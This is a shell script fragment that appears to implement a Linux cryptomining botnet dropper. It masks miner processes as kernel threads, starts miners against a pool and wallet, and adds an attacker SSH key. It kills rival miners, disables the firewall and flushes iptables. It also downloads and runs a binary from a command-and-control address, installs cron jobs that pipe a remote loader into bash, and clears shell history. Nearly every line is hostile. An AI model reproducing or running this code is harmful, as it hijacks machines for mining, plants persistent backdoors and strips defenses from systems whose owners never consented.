# Six random letters in a random directory; the file is gone once it runs.
for p in kthreaddk:/etc/apparmor.d/tunables/q7hm2x kthreaddi:/dev/shm/b/x9pl4k; do
  mimic "${p#*:}"
done
start -x -c kthreaddk -d 15 -p "$POOL" /etc/apparmor.d/tunables/q7hm2x '[kthreaddk]'
start -x -c kthreaddi /dev/shm/b/x9pl4k kthreaddi --url "$POOL" --user "$WALLET"
{ printf '#!/bin/bash\necho "ssh-rsa %s sysrv@localhost" >>~/.ssh/authorized_keys\n' "$KEY"; cat <<'SH'
cc=http://192.0.2.93
ps aux | grep -v grep | grep -E 'kdevtmpfsi|kinsing|xmr-stak' | awk '{print $2}' | xargs -r kill -9
ufw disable; iptables -F
get() { curl -fsSL "$1" -o "$2" || wget -q "$1" -O "$2"; chmod +x "$2"; }
d=$(mktemp -d); get $cc/sys.x86_64 $d/$RANDOM && cd $d && nohup ./* >/dev/null 2>&1 &
crontab -r; echo "* * * * * (curl -fsSL $cc/ldr.sh || wget -q -O- $cc/ldr.sh) | bash" | crontab -
history -c
SH
} | script /var/tmp/ldr.sh
echo '* * * * * (curl -fsSL http://192.0.2.93/ldr.sh || wget -q -O- http://192.0.2.93/ldr.sh) | bash > /dev/null 2>&1' | tab root
key /root sysrv@localhost
